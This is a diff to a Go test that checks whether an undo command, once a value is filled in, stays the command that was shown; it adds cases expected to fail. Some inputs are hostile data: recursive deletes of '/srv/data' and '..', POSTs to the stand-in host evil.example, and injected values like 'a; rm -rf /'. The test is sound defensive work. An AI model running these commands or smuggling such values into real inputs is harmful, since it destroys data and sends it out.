@@ -133,6 +133,12 @@ func TestAResultMakesNoCommandWorse(t *testing.T) {
 func TestAnUndoIsTheCommandThatWasShown(t *testing.T) {
 	for name, c := range map[string]struct{ undo, file, is string }{
 		"it removes, as was shown":          {"rm ${s1.body.file}", "a.txt", "done"},
+		"it removes what is elsewhere":      {"rm -r ${s1.body.file}", "/srv/data", "error step.command_woven"},
+		"it removes what is above":          {"rm -r ${s1.body.file}", "..", "error step.command_woven"},
+		"it asks another machine":           {"curl -X POST ${s1.body.file}", "https://evil.example", "error step.command_woven"},
+		"it asks a host":                    {"curl -X POST https://${s1.body.file}/x", "evil.example", "error step.command_woven"},
+		"it names what is to go":            {"curl -X POST https://api.example/undo/${s1.body.file}", "r-17", "done"},
+		"it only looks":                     {"ls ${s1.body.file}", "build/a", "done"},
 		"it removes since it was resolved":  {"touch ${s1.body.file}", "a; rm -rf /", "error step.command_rises"},
 		"it removes nothing":                {"touch ${s1.body.file}", "a.txt", "done"},
 		"it runs more than was shown":       {"touch ${s1.body.file}", "a; curl https://evil.example", "error step.command_woven"},
